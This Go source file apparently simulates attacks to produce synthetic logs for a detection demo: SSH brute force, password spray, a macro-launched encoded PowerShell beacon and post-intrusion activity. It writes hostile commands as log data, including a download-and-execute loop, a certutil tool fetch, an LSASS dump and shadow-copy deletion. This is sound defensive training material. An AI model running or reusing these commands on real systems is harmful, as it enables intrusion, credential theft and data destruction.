package simulate

import (
	"encoding/base64"
	"fmt"
	"strings"
	"time"
	"unicode/utf16"
)

// The scheduled attacks, in simulated time after Options.Start.

// attackPlan is one attack and when it happens.
type attackPlan struct {
	name    string
	first   time.Duration // after the simulated start
	every   time.Duration // period of repetitions; 0 = once
	summary string        // what the demo user should look for
	run     func(at time.Time, n int)
}

// Brute-force shape: failures inside one window, then the success.
const (
	bruteFailures = 40
	bruteWindow   = 3 * time.Minute
	beaconEvery   = 5 * time.Minute
)

func (w *world) attackPlans() []attackPlan {
	return []attackPlan{
		{"ssh-brute-force", 2 * time.Hour, 6 * time.Hour,
			fmt.Sprintf("%d failed SSH passwords on bastion-01 from one external address within 3 minutes, then an accepted root login, sudo wget/chmod of /tmp/.kworker and a new sudo user", bruteFailures),
			w.sshBruteForce},
		{"password-spray", 4 * time.Hour, 12 * time.Hour,
			"4625 failures on dc-01 from " + sprayIP + " for many account names, then a 4624 network logon as " + sprayWinner + " from the same address",
			w.passwordSpray},
		{"malicious-macro", 7 * time.Hour, 0,
			"Sysmon 1 on " + beaconHost + ": WINWORD.EXE starting powershell.exe -enc, then Sysmon 3 from that powershell to " + beaconIP + ":443 every 5 minutes (a beacon)",
			w.maliciousMacro},
		{"hands-on-keyboard", 7*time.Hour + 40*time.Minute, 0,
			"on " + beaconHost + ", the implant's PowerShell runs whoami /priv, a certutil -urlcache download, an LSASS dump with rundll32 comsvcs.dll MiniDump and vssadmin delete shadows",
			w.handsOnKeyboard},
		{"new-local-admin", 9 * time.Hour, 0,
			"adm_bob RDP logon to fs-01 from " + beaconHost + ", 4720 user " + newAdmin + " created, 4722 enabled, 4732 added to Administrators",
			w.newLocalAdmin},
	}
}

// scheduleAttacks schedules every attack plan and logs the schedule.
func (w *world) scheduleAttacks(start time.Time) {
	for _, p := range w.attackPlans() {
		at := start.Add(p.first)
		attrs := []any{"attack", p.name, "sim_time", at.Format(time.RFC3339), "look_for", p.summary}
		if w.realAt != nil {
			attrs = append(attrs, "real_time", w.realAt(at).Format(time.RFC3339))
		}
		if p.every > 0 {
			attrs = append(attrs, "repeats_every", p.every.String())
		}
		w.log.Info("simulated attack scheduled", attrs...)
		w.repeat(p, at, 0)
	}
}

func (w *world) repeat(p attackPlan, t time.Time, n int) {
	w.at(t, func(at time.Time) {
		p.run(at, n)
		if p.every > 0 {
			w.repeat(p, at.Add(w.jitter(p.every, 0.05)), n+1)
		}
	})
}

// sshBruteForce: password guesses against root and admin on the bastion,
// the success, and what the intruder does next.
func (w *world) sshBruteForce(at time.Time, n int) {
	h := w.co.host("bastion-01")
	ip := w.co.bruteForcers[n%len(w.co.bruteForcers)]
	w.attackStarted("ssh-brute-force", at, fmt.Sprintf("%d 'Failed password' lines from %s on bastion-01, then 'Accepted password for root from %s'", bruteFailures, ip, ip),
		"host", h.name, "source_ip", ip)
	t := at
	step := bruteWindow / (bruteFailures + 2) // 39 gaps stay inside the window
	for i := range bruteFailures {
		pid, port := w.pid(h.name), w.port()
		if i%3 == 2 {
			w.syslog(h, t, priAuthInfo, "sshd", pid, fmt.Sprintf("Invalid user admin from %s port %d", ip, port))
			w.syslog(h, t.Add(time.Second), priAuthInfo, "sshd", pid, fmt.Sprintf("Failed password for invalid user admin from %s port %d ssh2", ip, port))
			w.syslog(h, t.Add(1200*time.Millisecond), priAuthInfo, "sshd", pid, fmt.Sprintf("Connection closed by invalid user admin %s port %d [preauth]", ip, port))
		} else {
			w.syslog(h, t, priAuthprivInfo, "sshd", pid, fmt.Sprintf("pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 tty=ssh ruser= rhost=%s  user=root", ip))
			w.syslog(h, t.Add(time.Second), priAuthInfo, "sshd", pid, fmt.Sprintf("Failed password for root from %s port %d ssh2", ip, port))
			w.syslog(h, t.Add(1200*time.Millisecond), priAuthInfo, "sshd", pid, fmt.Sprintf("Connection closed by authenticating user root %s port %d [preauth]", ip, port))
		}
		t = t.Add(w.jitter(step, 0.05) - 100*time.Millisecond)
	}
	pid, port := w.pid(h.name), w.port()
	t = t.Add(5 * time.Second)
	w.at(t, func(t time.Time) {
		sess := w.sshOpen(h, t, pid, "root", 0, fmt.Sprintf("password for root from %s port %d ssh2", ip, port))
		w.intruderCommands(h, t, ip, n)
		w.sshClose(h, t.Add(6*time.Minute), pid, sess, "root", ip, port)
	})
}

// intruderCommands is what the brute-forcer runs once in.
func (w *world) intruderCommands(h *host, t time.Time, ip string, n int) {
	name := []string{"support", "sysadmin", "backup2", "www-admin"}[n%4]
	uid := 1005 + n
	w.sudo(h, t.Add(40*time.Second), "root", 0, "/root", fmt.Sprintf("/usr/bin/wget -q http://%s/.x/kworker -O /tmp/.kworker", ip), 3*time.Second)
	w.sudo(h, t.Add(55*time.Second), "root", 0, "/root", "/usr/bin/chmod +x /tmp/.kworker", time.Second)
	u := t.Add(70 * time.Second)
	w.sudo(h, u, "root", 0, "/root", "/usr/sbin/useradd -m -s /bin/bash -G sudo "+name, time.Second)
	pid := w.pid(h.name)
	w.syslog(h, u.Add(100*time.Millisecond), priAuthInfo, "useradd", pid, fmt.Sprintf("new group: name=%s, GID=%d", name, uid))
	w.syslog(h, u.Add(100*time.Millisecond), priAuthInfo, "useradd", pid, fmt.Sprintf("new user: name=%s, UID=%d, GID=%d, home=/home/%s, shell=/bin/bash, from=/dev/pts/0", name, uid, uid, name))
	w.syslog(h, u.Add(110*time.Millisecond), priAuthInfo, "useradd", pid, fmt.Sprintf("add '%s' to group 'sudo'", name))
	w.syslog(h, u.Add(110*time.Millisecond), priAuthInfo, "useradd", pid, fmt.Sprintf("add '%s' to shadow group 'sudo'", name))
}

// passwordSpray: one password tried against many accounts on the domain
// controller over SMB and RDP, until one works.
func (w *world) passwordSpray(at time.Time, _ int) {
	dc := w.co.host("dc-01")
	w.attackStarted("password-spray", at, fmt.Sprintf("%d 4625 events on dc-01 from %s, then 4624 for %s", len(w.co.sprayUsers), sprayIP, sprayWinner),
		"host", dc.name, "source_ip", sprayIP)
	t := at
	for i, u := range w.co.sprayUsers {
		typ := 3
		if i%3 == 1 {
			typ = 10
		}
		l := logon{acct: account{u, netbiosDomain, "S-1-0-0"}, typ: typ, ip: sprayIP, port: w.port(), wks: "KALI", ntlm: true}
		sub := subNoSuchUser
		if w.co.person(u) != nil || u == "administrator" {
			sub = subBadPassword
		}
		w.logonFail(dc, t, l, sub)
		t = t.Add(w.between(1500*time.Millisecond, 4*time.Second))
	}
	l := logon{acct: w.domainAccount(sprayWinner), typ: 3, ip: sprayIP, port: w.port(), wks: "KALI", ntlm: true, id: w.newLogonID()}
	w.logonOK(dc, t.Add(5*time.Second), l)
	w.logoff(dc, t.Add(w.between(30*time.Second, 90*time.Second)), l)
}

// encodedCommand renders a PowerShell -EncodedCommand argument.
func encodedCommand(script string) string {
	u := utf16.Encode([]rune(script))
	b := make([]byte, 0, 2*len(u))
	for _, c := range u {
		b = append(b, byte(c), byte(c>>8))
	}
	return base64.StdEncoding.EncodeToString(b)
}

// maliciousMacro: a macro document starting an encoded PowerShell that
// then calls home every five minutes.
func (w *world) maliciousMacro(at time.Time, _ int) {
	h := w.co.host(beaconHost)
	w.attackStarted("malicious-macro", at, "Sysmon 1 winword.exe -> powershell.exe -enc on "+h.name+", then Sysmon 3 to "+beaconIP+":443 every 5 minutes",
		"host", h.name, "destination_ip", beaconIP)
	ex := w.explorer(h, at)
	doc := `C:\Users\` + h.owner + `\Downloads\Invoice_4471.docm`
	word := w.newProc(h, at, `C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE`,
		`"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE" /n "`+doc+`" /o ""`, ex.user, ex)
	script := fmt.Sprintf("$c=New-Object Net.WebClient;while($true){try{IEX $c.DownloadString('https://%s/cdn/a.ps1')}catch{};Start-Sleep 300}", beaconDomain)
	t := at.Add(25 * time.Second)
	ps := w.newProc(h, t, `C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`,
		"powershell.exe -nop -w hidden -enc "+encodedCommand(script), ex.user, word)
	w.resolve(h, t.Add(2*time.Second), ps, beaconDomain, beaconIP)
	w.beacon(h, t.Add(2100*time.Millisecond), ps, 0)
}

// handsOnKeyboard: the attacker works through the implant on the
// compromised workstation: discovery, tool download with certutil,
// credential dumping from LSASS, and removing shadow copies.
func (w *world) handsOnKeyboard(at time.Time, _ int) {
	h := w.co.host(beaconHost)
	w.attackStarted("hands-on-keyboard", at, "whoami /priv, certutil download, comsvcs MiniDump of lsass, vssadmin delete shadows on "+h.name,
		"host", h.name)
	ex := w.explorer(h, at)
	ps := w.newProc(h, at, `C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`,
		`powershell.exe -nop -w hidden`, ex.user, ex)
	steps := []struct{ image, cmd string }{
		{`C:\Windows\System32\whoami.exe`, `"C:\Windows\system32\whoami.exe" /priv`},
		{`C:\Windows\System32\certutil.exe`, `certutil.exe -urlcache -split -f http://` + beaconIP + `/tools/rc.exe C:\Users\Public\rc.exe`},
		{`C:\Windows\System32\rundll32.exe`, `rundll32.exe C:\Windows\System32\comsvcs.dll, MiniDump 624 C:\Users\Public\lsass.dmp full`},
		{`C:\Windows\System32\vssadmin.exe`, `vssadmin.exe delete shadows /all /quiet`},
	}
	for i, st := range steps {
		w.newProc(h, at.Add(time.Duration(i+1)*40*time.Second), st.image, st.cmd, ex.user, ps)
	}
}

// beacon schedules the implant's regular connection, forever.
func (w *world) beacon(h *host, t time.Time, p *proc, n int) {
	w.at(t, func(at time.Time) {
		if n > 0 && n%12 == 0 {
			w.resolve(h, at, p, beaconDomain, beaconIP)
		}
		w.connect(h, at.Add(30*time.Millisecond), p, beaconIP, 443)
		w.beacon(h, at.Add(w.jitter(beaconEvery, 0.02)), p, n+1)
	})
}

// newLocalAdmin: an administrator account, used from the compromised
// workstation, creates a local user on the file server and makes it an
// administrator.
func (w *world) newLocalAdmin(at time.Time, _ int) {
	fs, from := w.co.host("fs-01"), w.co.host(beaconHost)
	w.attackStarted("new-local-admin", at, "4720 + 4732 (Administrators) for "+newAdmin+" on fs-01, by adm_bob from "+from.name,
		"host", fs.name, "source_ip", from.ip)
	adm := w.domainAccount("adm_bob")
	l := logon{acct: adm, typ: 10, ip: from.ip, wks: strings.ToUpper(from.name), id: w.newLogonID()}
	w.logonOK(fs, at, l)
	t := at.Add(2 * time.Minute)
	w.at(t, func(t time.Time) {
		sid := w.localUserCreated(fs, t, adm, l.id, newAdmin)
		w.addedToAdministrators(fs, t.Add(time.Second), adm, l.id, sid)
	})
	w.logoff(fs, at.Add(6*time.Minute), l)
}
